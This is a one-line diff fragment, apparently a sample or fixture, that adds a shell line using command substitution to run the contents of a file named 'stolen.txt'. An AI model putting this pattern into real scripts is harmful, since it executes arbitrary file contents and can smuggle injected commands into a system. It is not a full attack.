@@ -1,0 +1,1 @@
+call "$(cat stolen.txt)"
